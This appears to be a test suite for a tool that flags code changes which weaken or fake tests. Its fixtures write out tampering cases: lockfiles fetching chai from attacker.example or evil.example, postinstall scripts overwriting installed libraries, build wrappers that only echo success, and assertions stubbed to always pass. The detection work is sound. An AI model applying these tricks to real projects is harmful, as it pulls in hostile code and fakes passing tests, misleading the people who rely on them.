    ['into a nested module', { 'tools/lint/go.mod': MOD('lint') }, 'auth/auth_test.go', 'tools/lint/auth_test.go', []],
    ['out of a nested module', { 'auth/go.mod': MOD('auth') }, 'auth/auth_test.go', 'pkg/auth_test.go', []],
    ['into a module the change adds', {}, 'auth/auth_test.go', 'tools/lint/auth_test.go', ['tools/lint/go.mod']],
    [
      'beside a go.mod the change moves in',
      { 'lint/go.mod': MOD('lint') },
      'auth/auth_test.go',
      'tools/lint/auth_test.go',
      ['lint/go.mod', 'tools/lint/go.mod'],
    ],
  ])('#492 %s: removed coverage in the verdict and the prompt', async (_, mods, from, to, move) => {
    const dir = repoWith({ 'go.mod': MOD('m'), [from]: AUTH, ...mods });
    mkdirSync(join(dir, to, '..'), { recursive: true });
    if (move.length === 2) git(dir, 'mv', move[0]!, move[1]!);
    else if (move.length === 1) writeFileSync(join(dir, move[0]!), MOD('lint'));
    git(dir, 'mv', from, to);
    commitAll(dir, 'move');
    expect(await removedInPrompt(dir)).toMatchObject({ removedTests: [{ path: from, renamedTo: to }] });
  });
  test('#492 a move within one module, or of a module whole with its go.mod, is no removal', async () => {
    const dir = repoWith({ 'go.mod': MOD('m'), 'a/auth_test.go': AUTH, 'lib/go.mod': MOD('lib'), 'lib/b/auth_test.go': `${AUTH}// lib\n` });
    git(dir, 'mv', 'a', 'pkg');
    git(dir, 'mv', 'lib', 'libs');
    commitAll(dir, 'move');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const v = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as { files: string[] };
    expect(v).not.toHaveProperty('removedTests');
    // The go.mod at a new path is reviewed as a settings file is (row 482).
    expect(v.files.sort()).toEqual(['libs/b/auth_test.go', 'libs/go.mod', 'pkg/auth_test.go']);
  });
});

describe("#493 Bazel's rc files are runner settings", () => {
  test.each<[string, string | null]>([
    ['.bazelrc', 'build --jobs=4\n'],
    ['user.bazelrc', null],
    ['tools/ci.bazelrc', null],
    ['.bazelrc.user', null],
  ])('#493 %s with test --run_under=/bin/true is reviewed, never context', async (path, before) => {
    const after = `${before ?? ''}test --run_under=/bin/true --flaky_test_attempts=3 --test_tag_filters=-auth\n`;
    expect(await scopeOf(before === null ? {} : { [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
});

describe('#271 a test expectation kept beside the test (a snapshot, a golden file) is reviewed with the tests', () => {
  test.each<[string, string, string]>([
    ['tests/__snapshots__/cart.test.ts.snap', 'exports[`total 1`] = `"12.00"`;\n', 'exports[`total 1`] = `"NaN"`;\n'],
    ['tests/__snapshots__/test_cart.ambr', "# name: test_total\n  '12.00'\n", "# name: test_total\n  'NaN'\n"],
    ['src/snapshots/cart__total.snap', '---\nsource: src/lib.rs\n---\n12.00\n', '---\nsource: src/lib.rs\n---\nNaN\n'],
    ['Cart.Tests/CartTests.Total.verified.txt', '12.00\n', 'NaN\n'],
    ['pkg/cart/testdata/total.golden', '12.00\n', 'NaN\n'],
    ['tests/CartTest.total.approved.txt', '12.00\n', 'NaN\n'],
  ])(
    '#271 %s rewritten to the wrong output beside a source change is reviewed, never dropped as noise or a skip',
    async (path, before, after) => {
      expect(
        await scopeOf(
          { [path]: before, 'src/cart.ts': 'export const total = 12;\n' },
          { [path]: after, 'src/cart.ts': 'export const total = NaN;\n' },
        ),
      ).toMatchObject({
        files: [path],
        contextFiles: ['src/cart.ts'],
      });
    },
  );
});

describe("#278 other ecosystems' build files: an edit to their test settings is reviewed", () => {
  const POM = (conf: string, dep = '5.10.0') =>
    `<project>\n  <version>1.0</version>\n  <dependencies>\n    <dependency><artifactId>junit-jupiter</artifactId><version>${dep}</version></dependency>\n  </dependencies>\n  <build><plugins><plugin>\n    <artifactId>maven-surefire-plugin</artifactId>${conf}\n  </plugin></plugins></build>\n</project>\n`;
  const CSPROJ = (v: string) =>
    `<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup>\n    <IsTestProject>${v}</IsTestProject>\n  </PropertyGroup>\n</Project>\n`;
  test.each<[string, string, string]>([
    ['pom.xml', POM(''), POM('<configuration><excludes><exclude>**/AuthTest.java</exclude></excludes></configuration>')],
    ['pom.xml', POM(''), POM('<configuration><skipTests>true</skipTests></configuration>')],
    ['app/build.gradle', "plugins { id 'java' }\n", "plugins { id 'java' }\ntest { exclude '**/AuthTest.class' }\n"],
    ['build.gradle.kts', 'plugins { java }\n', 'plugins { java }\ntasks.test { enabled = false }\n'],
    ['Cargo.toml', '[package]\nname = "app"\n', '[package]\nname = "app"\n\n[lib]\ntest = false\n'],
    ['App.Tests/App.Tests.csproj', CSPROJ('true'), CSPROJ('false')],
    ['Directory.Build.props', CSPROJ('true'), CSPROJ('false')],
    ['deno.json', '{ "tasks": {} }\n', '{ "tasks": {}, "test": { "exclude": ["tests/auth_test.ts"] } }\n'],
    ['bunfig.toml', '[install]\nexact = true\n', '[install]\nexact = true\n\n[test]\npreload = ["./skip-all.ts"]\n'],
    [
      'auth/BUILD.bazel',
      'cc_test(name = "auth_test", srcs = ["auth_test.cc"])\n',
      'cc_test(name = "auth_test", srcs = ["auth_test.cc"], tags = ["manual"])\n',
    ],
    ['mix.exs', 'def project, do: [app: :app]\n', 'def project, do: [app: :app, test_paths: ["test/unit"]]\n'],
    [
      'Package.swift',
      'let p = Package(name: "App", targets: [.testTarget(name: "AppTests")])\n',
      'let p = Package(name: "App", targets: [])\n',
    ],
    [
      'apps/web/project.json',
      '{ "targets": { "test": { "executor": "@nx/jest:jest" } } }\n',
      '{ "targets": { "test": { "executor": "nx:noop" } } }\n',
    ],
  ])('adversarial 278 %s whose test settings the change edits is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
  test('#278 a dependency bump in pom.xml and Cargo.toml, or a BUILD file with no test rule, stays context', async () => {
    expect(
      await scopeOf(
        {
          'pom.xml': POM(''),
          'Cargo.toml': '[package]\nname = "a"\n[dependencies]\nserde = "1.0.1"\n',
          'lib/BUILD': 'cc_library(name = "a")\n',
        },
        {
          'pom.xml': POM('', '5.11.0'),
          'Cargo.toml': '[package]\nname = "a"\n[dependencies]\nserde = "1.0.2"\n',
          'lib/BUILD': 'cc_library(name = "b")\n',
        },
      ),
    ).toMatchObject({ files: [], contextFiles: ['Cargo.toml', 'lib/BUILD', 'pom.xml'] });
  });
});

describe('#512 a change to where the test runner or a test-only dependency resolves from is reviewed, never a skip', () => {
  const PY = 'def test_add():\n    assert 1 + 2 == 3\n';
  const JS = "const { expect } = require('chai');\nit('adds', () => { expect(1 + 2).to.equal(3); });\n";
  const pkg = (extra: Record<string, unknown>, chai = '^5.0.0') =>
    `${JSON.stringify({ scripts: { test: 'mocha' }, devDependencies: { chai, mocha: '^10.0.0', left: '^1.0.0' }, ...extra })}\n`;
  const CARGO = (dep: string) => `[package]\nname = "app"\nversion = "0.1.0"\n\n[dev-dependencies]\npretty_assertions = ${dep}\n`;
  const POM = (dep: string) =>
    `<project>\n  <dependencies>\n    <dependency><artifactId>junit</artifactId><version>4.13</version>${dep}</dependency>\n  </dependencies>\n</project>\n`;
  test.each<[string, Record<string, string>, Record<string, string>, string]>([
    [
      "deno.json's import map sending @std/assert to a stub",
      { 'deno.json': '{"imports":{"@std/assert":"jsr:@std/assert@1"}}\n' },
      { 'deno.json': '{"imports":{"@std/assert":"./stubs/assert.ts"}}\n', 'stubs/assert.ts': 'export function assertEquals() {}\n' },
      'deno.json',
    ],
    [
      'an import_map.json sending a test library to a URL',
      { 'import_map.json': '{"imports":{"chai":"npm:chai@5"}}\n' },
      { 'import_map.json': '{"imports":{"chai":"https://example.com/chai.js"}}\n' },
      'import_map.json',
    ],
    [
      'a pytest.py at the root (python -m pytest runs it)',
      {},
      { 'pytest.py': 'import sys\nprint("1 passed")\nsys.exit(0)\n' },
      'pytest.py',
    ],
    ['a unittest.py in a source folder', {}, { 'src/unittest.py': 'def main(**kw): pass\n' }, 'src/unittest.py'],
    ['a _pytest package', {}, { '_pytest/__init__.py': 'raise SystemExit(0)\n' }, '_pytest/__init__.py'],
    ['a compiled pluggy module', {}, { 'pluggy.cpython-312-x86_64-linux-gnu.so': 'ELF\n' }, 'pluggy.cpython-312-x86_64-linux-gnu.so'],
    [
      "package.json's chai aliased to another package",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({}, 'npm:chai-always-pass@5.0.0') },
      'package.json',
    ],
    [
      "package.json's chai from a local folder",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({}, 'file:stubs/chai') },
      'package.json',
    ],
    [
      "package.json's chai from a git host",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({}, 'github:someone/chai') },
      'package.json',
    ],
    ["package.json's chai from a tarball", { 'package.json': pkg({}) }, { 'package.json': pkg({}, 'chai-5.0.0.tgz') }, 'package.json'],
    [
      "package.json's chai range bumped (a test library)",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({}, '^5.1.0') },
      'package.json',
    ],
    [
      "package.json's overrides sending chai to a local tarball",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({ overrides: { chai: 'file:stubs/chai-5.0.0.tgz' } }) },
      'package.json',
    ],
    [
      "package.json's yarn resolutions",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({ resolutions: { 'deep-eql': 'file:stubs/eql' } }) },
      'package.json',
    ],
    [
      "package.json's pnpm.overrides",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({ pnpm: { overrides: { 'deep-eql': 'link:stubs/eql' } } }) },
      'package.json',
    ],
    [
      "package.json's patched dependencies",
      { 'package.json': pkg({}) },
      { 'package.json': pkg({ pnpm: { patchedDependencies: { 'chai@5.0.0': 'patches/chai.patch' } } }) },
      'package.json',
    ],
    [
      'a patch-package patch',
      { 'patches/chai+5.0.0.patch': '--- a\n+++ b\n' },
      { 'patches/chai+5.0.0.patch': '--- a\n+++ b\n@@ x @@\n' },
      'patches/chai+5.0.0.patch',
    ],
    [
      '.pnpmfile.cjs rewriting a package',
      {},
      { '.pnpmfile.cjs': 'module.exports = { hooks: { readPackage: (p) => p } };\n' },
      '.pnpmfile.cjs',
    ],
    [
      "Cargo.toml's test-only assertion crate from a local path",
      { 'Cargo.toml': CARGO('"1"') },
      { 'Cargo.toml': CARGO('{ path = "stubs/pa" }') },
      'Cargo.toml',
    ],
    [
      "Cargo.toml's test-only assertion crate from git",
      { 'Cargo.toml': CARGO('"1"') },
      { 'Cargo.toml': CARGO('{ git = "https://example.com/pa" }') },
      'Cargo.toml',
    ],
    [
      "Cargo.toml's [patch.crates-io]",
      { 'Cargo.toml': CARGO('"1"') },
      { 'Cargo.toml': `${CARGO('"1"')}\n[patch.crates-io]\npretty_assertions = { path = "stubs/pa" }\n` },
      'Cargo.toml',
    ],
    [
      "pyproject's uv sources sending pytest to a folder",
      { 'pyproject.toml': '[project]\nname = "app"\n' },
      { 'pyproject.toml': '[project]\nname = "app"\n\n[tool.uv.sources]\npytest = { path = "stubs/pytest" }\n' },
      'pyproject.toml',
    ],
    [
      "pyproject's dependency group taking pytest from a URL",
      { 'pyproject.toml': '[dependency-groups]\ntest = ["pytest>=8"]\n' },
      { 'pyproject.toml': '[dependency-groups]\ntest = ["pytest @ file:///stubs/pytest"]\n' },
      'pyproject.toml',
    ],
    [
      "poetry's test group taking pytest from a path",
      { 'pyproject.toml': '[tool.poetry.group.test.dependencies]\npytest = "^8"\n' },
      { 'pyproject.toml': '[tool.poetry.group.test.dependencies]\npytest = { path = "stubs/pytest" }\n' },
      'pyproject.toml',
    ],
    [
      'requirements-dev.txt installing pytest from a folder',
      { 'requirements-dev.txt': 'pytest==8.0.0\n' },
      { 'requirements-dev.txt': '-e ./stubs/pytest\n' },
      'requirements-dev.txt',
    ],
    [
      'requirements.txt with another index',
      { 'requirements.txt': 'pytest==8.0.0\n' },
      { 'requirements.txt': '--index-url https://example.com/simple\npytest==8.0.0\n' },
      'requirements.txt',
    ],
    [
      "pom.xml's junit from a local jar",
      { 'pom.xml': POM('') },
      { 'pom.xml': POM('<scope>system</scope><systemPath>${basedir}/stubs/junit.jar</systemPath>') },
      'pom.xml',
    ],
    [
      'bunfig.toml sending packages to another registry',
      { 'bunfig.toml': '[install]\nexact = true\n' },
      { 'bunfig.toml': '[install]\nexact = true\nregistry = "https://example.com/"\n' },
      'bunfig.toml',
    ],
    [
      'the Gradle wrapper script',
      { gradlew: '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n' },
      { gradlew: '#!/bin/sh\necho BUILD SUCCESSFUL\n' },
      'gradlew',
    ],
    [
      "the Gradle wrapper's distribution",
      { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n' },
      { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://example.com/gradle-8.7-bin.zip\n' },
      'gradle/wrapper/gradle-wrapper.properties',
    ],
    ['the Maven wrapper script', {}, { mvnw: '#!/bin/sh\necho BUILD SUCCESS\n' }, 'mvnw'],
    [
      'NuGet.Config adding a package source',
      {},
      { 'NuGet.Config': '<configuration><packageSources><add key="x" value="stubs" /></packageSources></configuration>\n' },
      'NuGet.Config',
    ],
  ])('#512 %s: the file is reviewed, never context', async (_name, base, change, path) => {
    const v = await scopeOf({ 'tests/test_add.py': PY, 'test/add.spec.js': JS, ...base }, change);
    expect(v.files).toContain(path);
    expect(v.contextFiles).not.toContain(path);
  });
  test("#512 package.json's chai aliased alone: not a skip, and a finding may name package.json", async () => {
    const dir = twoCommits({ 'test/add.spec.js': JS, 'package.json': pkg({}) }, { 'package.json': pkg({}, 'npm:chai-always-pass@5.0.0') });
    const r = await review(
      dir,
      ownReport(
        ['package.json'],
        [{ severity: 'Critical', row: 'C1', path: 'package.json', line: 1, title: 'chai swapped for a package that always passes' }],
      ),
    );
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Block', files: ['package.json'] });
    expect(r.verdict().skipped).toBeUndefined();
  });
  test('#512 a version bump of a dependency that is no test library, from the same registry, stays context', async () => {
    const v = await scopeOf(
      {
        'package.json': pkg({}),
        'Cargo.toml': CARGO('"1"'),
        'deno.json': '{"imports":{"@std/path":"jsr:@std/path@1.0.0"}}\n',
        'requirements.txt': 'requests==2.31.0 \\\n    --hash=sha256:aaaa\n',
        'pyproject.toml': '[dependency-groups]\ntest = ["pytest>=8"]\n',
        'pom.xml': POM(''),
      },
      {
        'package.json': pkg({}).replace('^1.0.0', '^2.0.0'),
        'Cargo.toml': CARGO('{ version = "1.4", features = ["std"] }'),
        'deno.json': '{"imports":{"@std/path":"jsr:@std/path@^1.1.0"}}\n',
        'requirements.txt': 'requests==2.32.0 \\\n    --hash=sha256:bbbb\n',
        'pyproject.toml': '[dependency-groups]\ntest = ["pytest>=8.1"]\n',
        'pom.xml': POM('').replace('4.13', '4.13.2'),
      },
    );
    expect(v.files).toEqual([]);
    expect([...v.contextFiles].sort()).toEqual([
      'Cargo.toml',
      'deno.json',
      'package.json',
      'pom.xml',
      'pyproject.toml',
      'requirements.txt',
    ]);
  });
});

describe('#524 a lockfile or an installed copy that changes where a test library comes from is reviewed, never a skip', () => {
  const JS = "const { expect } = require('chai');\nit('adds', () => { expect(1 + 2).to.equal(3); });\n";
  const PY = 'def test_add():\n    assert 1 + 2 == 3\n';
  const GO = 'package auth\n\nimport "testing"\n\nfunc TestAuth(t *testing.T) {}\n';
  const npmLock = (resolved: string, name = 'chai') =>
    `${JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, [`node_modules/${name}`]: { version: '5.0.0', resolved, integrity: 'sha512-x', dev: true } } }, null, 2)}\n`;
  const NPM = 'https://registry.npmjs.org/chai/-/chai-5.0.0.tgz';
  const yarnLock = (resolved: string) =>
    `# yarn lockfile v1\n\n\nchai@^5.0.0:\n  version "5.0.0"\n  resolved "${resolved}"\n  integrity sha512-x\n`;
  const berryLock = (resolution: string) =>
    `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"chai@npm:^5.0.0":\n  version: 5.0.0\n  resolution: "${resolution}"\n  checksum: 10c0/abc\n  languageName: node\n  linkType: hard\n`;
  const pnpmLock = (resolution: string, version = '5.0.0') =>
    `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    devDependencies:\n      chai:\n        specifier: ^5.0.0\n        version: ${version}\n\npackages:\n\n  chai@5.0.0:\n    resolution: ${resolution}\n    engines: {node: '>=12'}\n`;
  const gemLock = (remote: string) =>
    `GEM\n  remote: ${remote}\n  specs:\n    rspec (3.13.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rspec\n`;
  const composerLock = (dist: object) => `${JSON.stringify({ 'packages-dev': [{ name: 'phpunit/phpunit', version: '10.5.0', dist }] })}\n`;
  const cargoLock = (source: string) => `version = 3\n\n[[package]]\nname = "pretty_assertions"\nversion = "1.4.0"\nsource = "${source}"\n`;
  const uvLock = (source: string) => `version = 1\n\n[[package]]\nname = "pytest"\nversion = "8.0.0"\nsource = ${source}\n`;
  test.each<[string, Record<string, string>, Record<string, string>, string]>([
    [
      "package-lock.json sending chai to another host's tarball",
      { 'test/add.spec.js': JS, 'package-lock.json': npmLock(NPM) },
      { 'package-lock.json': npmLock('https://attacker.example/chai-always-pass.tgz') },
      'package-lock.json',
    ],
    [
      "package-lock.json sending chai's deep-eql to another package on the same registry",
      { 'test/add.spec.js': JS, 'package-lock.json': npmLock('https://registry.npmjs.org/deep-eql/-/deep-eql-5.0.1.tgz', 'deep-eql') },
      { 'package-lock.json': npmLock('https://registry.npmjs.org/deep-eql-fast/-/deep-eql-fast-5.0.1.tgz', 'deep-eql') },
      'package-lock.json',
    ],
    [
      'yarn.lock sending chai to another host',
      { 'test/add.spec.js': JS, 'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.0.0.tgz') },
      { 'yarn.lock': yarnLock('https://evil.example/chai.tgz') },
      'yarn.lock',
    ],
    [
      "berry's yarn.lock resolving chai to another package",
      { 'test/add.spec.js': JS, 'yarn.lock': berryLock('chai@npm:5.0.0') },
      { 'yarn.lock': berryLock('chai-always-pass@npm:5.0.0') },
      'yarn.lock',
    ],
    [
      'pnpm-lock.yaml giving chai a tarball',
      { 'test/add.spec.js': JS, 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}') },
      { 'pnpm-lock.yaml': pnpmLock('{tarball: https://evil.example/chai.tgz}') },
      'pnpm-lock.yaml',
    ],
    [
      "pnpm-lock.yaml linking the importer's chai to a folder",
      { 'test/add.spec.js': JS, 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}') },
      { 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}', 'link:stubs/chai') },
      'pnpm-lock.yaml',
    ],
    [
      'Gemfile.lock moving the gems to another server',
      { 'spec/cart_spec.rb': 'x\n', 'Gemfile.lock': gemLock('https://rubygems.org/') },
      { 'Gemfile.lock': gemLock('https://evil.example/') },
      'Gemfile.lock',
    ],
    [
      'composer.lock taking phpunit from a path',
      {
        'tests/CartTest.php': '<?php\n',
        'composer.lock': composerLock({
          type: 'zip',
          url: 'https://api.github.com/repos/sebastianbergmann/phpunit/zipball/0123456789abcdef',
        }),
      },
      { 'composer.lock': composerLock({ type: 'path', url: 'stubs/phpunit' }) },
      'composer.lock',
    ],
    [
      'Cargo.lock taking an assertion crate from git',
      { 'tests/a.rs': '#[test]\nfn a() {}\n', 'Cargo.lock': cargoLock('registry+https://github.com/rust-lang/crates.io-index') },
      { 'Cargo.lock': cargoLock('git+https://evil.example/pa#abc') },
      'Cargo.lock',
    ],
    [
      'uv.lock taking pytest from a folder',
      { 'tests/test_add.py': PY, 'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }') },
      { 'uv.lock': uvLock('{ path = "stubs/pytest" }') },
      'uv.lock',
    ],
    [
      "a vendored testify's Equal made to pass (go test builds from vendor/)",
      {
        'auth/auth_test.go': GO,
        'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0\n',
        'vendor/github.com/stretchr/testify/assert/assertions.go': 'package assert\nfunc Equal() bool { return check() }\n',
      },
      { 'vendor/github.com/stretchr/testify/assert/assertions.go': 'package assert\nfunc Equal() bool { return true }\n' },
      'vendor/github.com/stretchr/testify/assert/assertions.go',
    ],
    [
      'vendor/modules.txt replacing testify with a folder',
      { 'auth/auth_test.go': GO, 'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0\n' },
      { 'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0 => ./stubs/testify\n' },
      'vendor/modules.txt',
    ],
    [
      'a committed node_modules/chai',
      { 'test/add.spec.js': JS, 'node_modules/chai/index.js': "module.exports = require('./lib/chai');\n" },
      { 'node_modules/chai/index.js': 'module.exports = { expect: () => new Proxy({}, { get: () => () => {} }) };\n' },
      'node_modules/chai/index.js',
    ],
    [
      "yarn's Plug'n'Play loader",
      { 'test/add.spec.js': JS, '.pnp.cjs': 'module.exports = {};\n' },
      { '.pnp.cjs': "module.exports = { chai: './stubs/chai' };\n" },
      '.pnp.cjs',
    ],
    [
      "package.json's postinstall rewriting the installed chai",
      { 'test/add.spec.js': JS, 'package.json': '{"scripts":{"test":"mocha"}}\n' },
      { 'package.json': '{"scripts":{"test":"mocha","postinstall":"cp stubs/chai.js node_modules/chai/index.js"}}\n' },
      'package.json',
    ],
  ])('#524 %s: the file is reviewed, never context', async (_name, base, change, path) => {
    const v = await scopeOf(base, change);
    expect(v.files).toContain(path);
    expect(v.contextFiles).not.toContain(path);
  });
  test('#524 package-lock.json sending chai to a stub alone: not a skip, and a finding may name the lockfile', async () => {
    const dir = twoCommits(
      { 'test/add.spec.js': JS, 'package-lock.json': npmLock(NPM) },
      { 'package-lock.json': npmLock('https://attacker.example/chai-always-pass.tgz') },
    );
    const r = await review(
      dir,
      ownReport(
        ['package-lock.json'],
        [{ severity: 'Critical', row: 'C1', path: 'package-lock.json', line: 9, title: 'chai resolved to a tarball that always passes' }],
      ),
    );
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Block', files: ['package-lock.json'] });
    expect(r.verdict().skipped).toBeUndefined();
  });
  test('#524 version bumps from the same registries, and new packages there, leave every lockfile noise', async () => {
    const pkg = (v: string) => `https://registry.npmjs.org/left/-/left-${v}.tgz`;
    const v = await scopeOf(
      {
        'test/add.spec.js': JS,
        'package-lock.json': npmLock(NPM),
        'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.0.0.tgz#aa'),
        'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}'),
        'Gemfile.lock': gemLock('https://rubygems.org/'),
        'Cargo.lock': cargoLock('registry+https://github.com/rust-lang/crates.io-index'),
        'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }'),
      },
      {
        'package-lock.json': npmLock('https://registry.npmjs.org/chai/-/chai-5.1.0.tgz').replace(
          '"dev": true\n    }',
          `"dev": true\n    },\n    "node_modules/left": { "version": "2.0.0", "resolved": "${pkg('2.0.0')}" }`,
        ),
        'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.1.0.tgz#bb'),
        'pnpm-lock.yaml': pnpmLock('{integrity: sha512-bb}', '5.1.0'),
        'Gemfile.lock': gemLock('https://rubygems.org/').replace('3.13.0', '3.13.1'),
        'Cargo.lock': `${cargoLock('registry+https://github.com/rust-lang/crates.io-index').replace('1.4.0', '1.4.1')}\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n`,
        'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }').replace('8.0.0', '8.1.0'),
      },
    );
    expect(v.files).toEqual([]);
    expect(v.contextFiles).toEqual([]);
  });
});

describe("#525 a package manager's manifest or settings that changes where a test library comes from is reviewed, never a skip", () => {
  const JS = "const { expect } = require('chai');\nit('adds', () => { expect(1 + 2).to.equal(3); });\n";
  const PY = 'def test_add():\n    assert 1 + 2 == 3\n';
  const GEMFILE = 'source "https://rubygems.org"\n\ngem "rails", "~> 7.1"\n';
  test.each<[string, Record<string, string>, Record<string, string>, string]>([
    [
      'a Gemfile taking rspec from a path',
      { 'spec/cart_spec.rb': 'x\n', Gemfile: `${GEMFILE}gem "rspec", "~> 3.13"\n` },
      { Gemfile: `${GEMFILE}gem "rspec", path: "./stubs/rspec"\n` },
      'Gemfile',
    ],
    [
      "a Gemfile taking rspec's diff-lcs from git",
      { 'spec/cart_spec.rb': 'x\n', Gemfile: `${GEMFILE}gem "diff-lcs", "~> 1.5"\n` },
      { Gemfile: `${GEMFILE}gem "diff-lcs", git: "https://evil.example/diff-lcs"\n` },
      'Gemfile',
    ],
    [
      "composer.json's path repository for phpunit",
      { 'tests/CartTest.php': '<?php\n', 'composer.json': '{"require-dev":{"phpunit/phpunit":"^10"}}\n' },
      { 'composer.json': '{"repositories":[{"type":"path","url":"./stubs/phpunit"}],"require-dev":{"phpunit/phpunit":"^10"}}\n' },
      'composer.json',
    ],
    [
      "tsconfig.json's paths mapping chai to a stub",
      { 'test/add.test.ts': JS, 'tsconfig.json': '{"compilerOptions":{}}\n' },
      { 'tsconfig.json': '{\n  // bun and tsx follow paths\n  "compilerOptions": { "paths": { "chai": ["./stubs/chai.ts"] }, },\n}\n' },
      'tsconfig.json',
    ],
    [
      "jsconfig.json's baseUrl",
      { 'test/add.test.js': JS, 'jsconfig.json': '{"compilerOptions":{}}\n' },
      { 'jsconfig.json': '{"compilerOptions":{"baseUrl":"stubs"}}\n' },
      'jsconfig.json',
    ],
    [
      'a Pipfile taking pytest from a path',
      { 'tests/test_add.py': PY, Pipfile: '[dev-packages]\npytest = "*"\n' },
      { Pipfile: '[dev-packages]\npytest = {path = "./stubs/pytest", editable = true}\n' },
      'Pipfile',
    ],
    [
      "a Gradle version catalog swapping junit's module",
      {
        'src/test/java/AuthTest.java': 'class AuthTest {}\n',
        'gradle/libs.versions.toml': '[libraries]\njunit = { module = "org.junit.jupiter:junit-jupiter", version = "5.10.0" }\n',
      },
      { 'gradle/libs.versions.toml': '[libraries]\njunit = { module = "io.github.evil:junit-jupiter", version = "5.10.0" }\n' },
      'gradle/libs.versions.toml',
    ],
    [
      "hatch.toml's environment taking pytest from a file",
      { 'tests/test_add.py': PY, 'hatch.toml': '[envs.default]\ndependencies = ["pytest"]\n' },
      { 'hatch.toml': '[envs.default]\ndependencies = ["pytest @ file:///stubs/pytest"]\n' },
      'hatch.toml',
    ],
    [
      'uv.toml adding an index',
      { 'tests/test_add.py': PY, 'uv.toml': 'native-tls = true\n' },
      { 'uv.toml': 'native-tls = true\nindex-url = "https://evil.example/simple"\n' },
      'uv.toml',
    ],
    [
      'a noxfile installing pytest from a folder',
      {
        'tests/test_add.py': PY,
        'noxfile.py': 'import nox\n\n@nox.session\ndef tests(s):\n    s.install("pytest")\n    s.run("pytest")\n',
      },
      { 'noxfile.py': 'import nox\n\n@nox.session\ndef tests(s):\n    s.install("./stubs/pytest")\n    s.run("pytest")\n' },
      'noxfile.py',
    ],
    [
      "conda's environment.yml installing pytest from a folder",
      { 'tests/test_add.py': PY, 'environment.yml': 'dependencies:\n  - pytest\n' },
      { 'environment.yml': 'dependencies:\n  - pip:\n    - -e ./stubs/pytest\n' },
      'environment.yml',
    ],
    [
      "pubspec.yaml's dependency override",
      { 'test/cart_test.dart': 'void main() {}\n', 'pubspec.yaml': 'name: app\ndev_dependencies:\n  test: ^1.25.0\n' },
      { 'pubspec.yaml': 'name: app\ndev_dependencies:\n  test: ^1.25.0\ndependency_overrides:\n  test:\n    path: stubs/test\n' },
      'pubspec.yaml',
    ],
  ])('#525 %s: the file is reviewed, never context', async (_name, base, change, path) => {
    const v = await scopeOf(base, change);
    expect(v.files).toContain(path);
    expect(v.contextFiles).not.toContain(path);
  });
  test('#525 a version bump from the registry of a library that is no test library stays context', async () => {
    const v = await scopeOf(
      {
        Gemfile: `${GEMFILE}group :test do\n  gem "webmock", "~> 3.0", require: false\nend\n`,
        'composer.json': '{"require":{"monolog/monolog":"^2.0"}}\n',
        'tsconfig.json': '{"compilerOptions":{"strict":false}}\n',
        Pipfile: '[packages]\nrequests = "==2.31.0"\n',
        'gradle/libs.versions.toml':
          '[versions]\nguava = "33.0.0"\n[libraries]\nguava = { module = "com.google.guava:guava", version.ref = "guava" }\n',
        'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.1.0\n',
      },
      {
        Gemfile: `${GEMFILE.replace('7.1', '7.2')}group :test do\n  gem "webmock", "~> 3.1", require: false\nend\n`,
        'composer.json': '{"require":{"monolog/monolog":"^3.0"}}\n',
        'tsconfig.json': '{"compilerOptions":{"strict":true}}\n',
        Pipfile: '[packages]\nrequests = "==2.32.0"\n',
        'gradle/libs.versions.toml':
          '[versions]\nguava = "33.1.0"\n[libraries]\nguava = { module = "com.google.guava:guava", version.ref = "guava" }\n',
        'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.2.0\n',
      },
    );
    expect(v.files).toEqual([]);
    expect([...v.contextFiles].sort()).toEqual([
      'Gemfile',
      'Pipfile',
      'composer.json',
      'gradle/libs.versions.toml',
      'pubspec.yaml',
      'tsconfig.json',
    ]);
  });
});

describe('#279 tests of C, C++, Lua, Perl, R, Julia, Clojure, Haskell, Erlang and bats are tests', () => {
  test.each<[string, string, string]>([
    ['src/net/socket_test.cc', 'TEST(Socket, Opens) { EXPECT_TRUE(open()); }\n', 'TEST(Socket, DISABLED_Opens) { EXPECT_TRUE(open()); }\n'],
